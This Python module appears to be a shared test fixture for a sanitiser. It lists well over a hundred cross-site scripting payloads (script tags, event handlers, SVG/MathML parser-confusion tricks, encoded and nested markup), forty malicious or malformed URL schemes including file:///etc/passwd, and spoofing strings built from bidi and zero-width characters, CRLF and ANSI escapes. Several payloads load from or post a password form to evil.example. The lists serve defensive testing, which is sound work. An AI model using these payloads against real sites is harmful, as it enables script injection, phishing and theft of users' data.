"""What strangers may put into a feed or a page: markup, addresses, and text that pretends.

Each list is the one place of its kind; the tests of every stage and every page take from it.
"""

from typing import Final

X: Final = "steal(1)"
"""What would be called if a vector ran; a test may define it, and look whether it was."""

_SCRIPTS = [
    f"<script>{X}</script>",
    f"<SCRIPT>{X}</SCRIPT>",
    "<script src=//evil.example/x.js></script>",
    f"<scr<script>ipt>{X}</scr</script>ipt>",
    f"<script/x>{X}</script>",
    f"<script\n>{X}</script\n>",
    f"<script>{X}",
    f"<<script>{X}//<</script>",
    f"<script type=module>{X}</script>",
    f"<script>/*</script><script>*/{X}</script>",
    f"</title><script>{X}</script>",
    f"</textarea><script>{X}</script>",
    f"</style><script>{X}</script>",
    f'"><script>{X}</script>',
    f"'><script>{X}</script>",
    f"]]><script>{X}</script>",
    f"--><script>{X}</script>",
    f"<b><script>{X}</script></b>",
    "<script nonce=x src=data:text/javascript,steal(1)></script>",
    "{{ 7 * 7 }}{% raw %}",
]
_HANDLERS = [
    f"<{element} {handler}={X}>x</{element}>"
    for element, handler in [
        ("img src=x", "onerror"),
        ("body", "onload"),
        ("p", "onclick"),
        ("a href=#", "onfocus"),
        ("input autofocus", "onfocus"),
        ("select autofocus", "onfocus"),
        ("video src=x", "onerror"),
        ("audio src=x", "onerror"),
        ("details open", "ontoggle"),
        ("marquee", "onstart"),
        ("div style=animation:x", "onanimationend"),
        ("b", "onmouseover"),
        ("b", "ONMOUSEOVER"),
        ("b", "onpointerenter"),
        ("ul", "onscroll"),
        ("q", "oncopy"),
        ("object data=x", "onerror"),
        ("td", "onbeforeinput"),
        ("blockquote", "oncut"),
        ("table background=x", "onload"),
    ]
]
_BROKEN_ATTRIBUTES = [
    f"<img src=x onerror\n=\n{X}>",
    f"<img/src=x/onerror={X}>",
    f'<img """><b onclick={X}>">',
    f"<img src='x'onerror='{X}'>",
    f"<img src=`x` onerror=`{X}`>",
    f"<a/href=x/onclick={X}>x",
    f'" onmouseover="{X}',
    f"' onfocus={X} autofocus='",
    f'x" style="x" onclick="{X}',
    f"<b title='</b><img src=x onerror={X}>'>x",
    f'<a title="&quot;><img src=x onerror={X}>">x</a>',
    f"<b \x00onclick={X}>x</b>",
    f"<b\x0conclick={X}>x</b>",
    f"<img src=x onerror&#61;{X}>",
    f"<a href='x' href='javascript:{X}'>x</a>",
    "<p id=news class=lead name=stories>x</p>",
]
_NAMESPACES = [
    f"<svg/onload={X}>",
    f"<svg><script>{X}</script></svg>",
    f"<svg><a xlink:href=javascript:{X}><text>x</text></a></svg>",
    f"<svg><animate onbegin={X} attributeName=x></svg>",
    "<svg><use href=//evil.example/x.svg#a></svg>",
    f"<svg><foreignObject><img src=x onerror={X}></foreignObject></svg>",
    f"<svg><style><img src=x onerror={X}></style></svg>",
    f"<svg></p><style><a id='</style><img src=x onerror={X}>'>",
    f"<svg><desc><img src=x onerror={X}></desc></svg>",
    f"<svg><title><script>{X}</script></title></svg>",
    f"<svg><set attributeName=onmouseover to={X}></svg>",
    f"<math><mi//xlink:href='javascript:{X}'>x</mi></math>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={X}>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={X}>",
    f"<math><annotation-xml encoding=text/html><img src=x onerror={X}></annotation-xml></math>",
    (
        "<math><mtext><option><FAKE><option></option><mglyph><svg><mtext>"
        f"<style><a title='</style><img src=x onerror={X}>'>"
    ),
    f"<math><style><!--</style><img title='--><img src=x onerror={X}>'>",
    f"<math href=javascript:{X}>x</math>",
    f"<xml:namespace prefix=t><t:set attributeName=innerHTML to=<img&#11;src=x&#11;onerror={X}>>",
]
_RAW_TEXT = [
    f"<noscript><p title='</noscript><img src=x onerror={X}>'></noscript>",
    f"<noscript><script>{X}</script></noscript>",
    f"<xmp><script>{X}</script></xmp>",
    f"<xmp></xmp><script>{X}</script>",
    f"<plaintext><script>{X}</script>",
    f"<textarea><script>{X}</script></textarea>",
    f"<title><img src=x onerror={X}></title>",
    f"<noembed><img src=x onerror={X}></noembed>",
    f"<noframes><script>{X}</script></noframes>",
    f"<listing>&lt;img src=x onerror={X}&gt;</listing>",
    f"<template><script>{X}</script></template>",
    f"<template shadowrootmode=open><img src=x onerror={X}></template>",
    f"<select><option><style></select><img src=x onerror={X}></style>",
    f"<keygen autofocus onfocus={X}>",
]
_COMMENTS = [
    f"<!--><img src=x onerror={X}>-->",
    f"<!---><script>{X}</script>-->",
    f"<!-- --!><img src=x onerror={X}>",
    f"<!--[if gte IE 4]><script>{X}</script><![endif]-->",
    f"<![CDATA[<script>{X}</script>]]>",
    f"<![CDATA[</title>]]><img src=x onerror={X}>",
    f"<!DOCTYPE x [<!ENTITY y '{X}'>]>&y;",
    f"<?xml-stylesheet href='javascript:{X}'?>",
    f"<?php ?><img src=x onerror={X}>",
    f"<!x><script>{X}</script>",
]
_STYLES = [
    "<style>@import '//evil.example/a.css';</style>",
    "<style>*{background:url(//evil.example/p)}</style>",
    f"<p style='background:url(javascript:{X})'>x</p>",
    "<p style='position:fixed;inset:0'>Log in here</p>",
    "<link rel=stylesheet href=//evil.example/a.css>",
    f"<style><!--</style><script>{X}//--></script>",
    f"<p style=width:expression({X})>x</p>",
    "<font color=red size=99>x</font>",
]
_FORMS = [
    "<form action=//evil.example><input name=password type=password><button>Log in</button></form>",
    f"<button formaction=javascript:{X}>x</button>",
    f"<input type=image src=x formaction=javascript:{X}>",
    f"<isindex action=javascript:{X} type=image>",
    "<label for=q>x</label><select name=x><option>y</select>",
    f"<form id=f></form><button form=f formaction=javascript:{X}>x",
    "<dialog open><form method=dialog>x</form></dialog>",
]
_STEERING = [
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{X}'>",
    "<base href=//evil.example/>",
    f"<base href=javascript:{X}//><a href=#>x</a>",
    "<meta charset=utf-7>+ADw-script+AD4-",
    f"<iframe srcdoc='<script>{X}</script>'></iframe>",
    f"<iframe src=javascript:{X}></iframe>",
    f"<iframe srcdoc=&lt;script&gt;{X}&lt;/script&gt;>",
    "<frameset><frame src=//evil.example></frameset>",
    "<object data=//evil.example/x.swf></object>",
    f"<embed src=javascript:{X}>",
    "<applet code=x archive=//evil.example/x.jar>",
    "<portal src=//evil.example></portal>",
    "<a href=//evil.example target=_top ping=//evil.example/p>x</a>",
    "<img src='https://evil.example/p.gif' width=1 height=1>",
    "<link rel=prefetch href=//evil.example/>",
]
_REFERENCES = [
    f"&lt;script&gt;{X}&lt;/script&gt;",
    f"&#60;script&#62;{X}&#60;/script&#62;",
    f"&#x3c;img src=x onerror={X}&#x3e;",
    f"&amp;lt;script&amp;gt;{X}&amp;lt;/script&amp;gt;",
    f"&LT;script&GT;{X}",
    f"&#0;<img src=x onerror={X}>",
    f"&lt<script>{X}</script>",
    f"\uff1cscript\uff1e{X}\uff1c/script\uff1e",
    f"+ADw-script+AD4-{X}+ADw-/script+AD4-",
    f"<a href='&#106;avascript:{X}'>x</a>",
    f"<a href='java&NewLine;script:{X}'>x</a>",
    f"<a href='&#0000106&#0000097vascript:{X}'>x</a>",
]
_LINKS = [
    f"<a href='javascript:{X}'>x</a>",
    f"<a href=' \x01javascript:{X}'>x</a>",
    f"<a href='java\nscript:{X}'>x</a>",
    f"<a href='data:text/html,<script>{X}</script>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<img src='data:image/svg+xml,<svg onload=x>'>",
    f"<img src='javascript:{X}'>",
    f"<img srcset='javascript:{X} 1x' sizes=x>",
    "<picture><source srcset=//evil.example/x></picture>",
]
_NESTING = [
    "<b>" * 600 + f"<script>{X}</script>" + "</b>" * 600,
    "<div>" * 600 + f"<img src=x onerror={X}>",
    "<table><tr><td>" * 60 + f"<svg onload={X}>",
    "<blockquote>" * 300 + "x",
    f"</b></a></li></ol></div></article></main><script>{X}</script>",
    "<a><a><a><b><i><a>" * 20 + f"<a href=javascript:{X}>x",
    "<ul><li>" * 200 + "x",
    "</p>" * 300 + "<p " * 50 + "x",
]

MARKUP: Final = [
    *_SCRIPTS,
    *_HANDLERS,
    *_BROKEN_ATTRIBUTES,
    *_NAMESPACES,
    *_RAW_TEXT,
    *_COMMENTS,
    *_STYLES,
    *_FORMS,
    *_STEERING,
    *_REFERENCES,
    *_LINKS,
    *_NESTING,
]
"""Markup that would run, load, submit, hide or steer where it is taken for what it says."""

ADDRESSES: Final = [
    "javascript:steal(1)",
    "JaVaScRiPt:steal(1)",
    " javascript:x",
    "java\tscript:x",
    "java\nscript:x",
    "\x01javascript:x",
    "\u00a0javascript:x",
    "javascript&#58;x",
    "javascript&colon;x",
    "java\x00script:x",
    "javascript://news.example/%0asteal(1)",
    "vbscript:x",
    "VBSCRIPT:x",
    "livescript:x",
    "data:text/html,<script>x</script>",
    "data:image/svg+xml;base64,PHN2Zz4=",
    "DATA:text/html,x",
    "file:///etc/passwd",
    "file://news.example/x",
    "ftp://a.example/x",
    "mailto:a@a.example",
    "about:blank",
    "blob:https://evil.example/1",
    "view-source:http://a.example",
    "feed:http://a.example",
    "feed:javascript:x",
    "http:",
    "http://",
    "https:///",
    "http://user:word@a.example/",
    "https:\\\\evil.example",
    "\\\\evil.example\\x",
    "http://a.example:99999/",
    "http://[::1",
    "tel:1",
    "intent://x",
    "jar:http://a.example!/",
    "ws://a.example/",
    "chrome://settings",
    "x" * 5000,
]
"""What is no address of the web, in forty spellings."""

PRETENDING: Final = [
    *(f"Order{c}restored" for c in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"),
    *(f"Har{c}bour" for c in "\u200b\u200e\u200f\u2060\ufeff\u00ad\u061c\u180e"),
    "Ceasefire\r\n2026-03-01T09:00:00 ERROR disk full",
    "Ceasefire\nBcc: everybody@example.org",
    "Ceasefire\x1b[2J\x1b[31mred",
    "Ceasefire\x9b31m",
    "Ceasefire\x07\x08\x08\x7f",
    "Cease\x00fire",
    "Cease\u2028fire\u2029now",
    "H\u200d\u200d\u200d\u200carbour",
    "\U000e0041\U000e0042Harbour",
]
"""Text that shows, sorts or logs as something else than it is."""

assert len(set(MARKUP)) == len(MARKUP) >= 150
assert len(set(ADDRESSES)) == len(ADDRESSES) == 40
assert len(set(PRETENDING)) >= 25
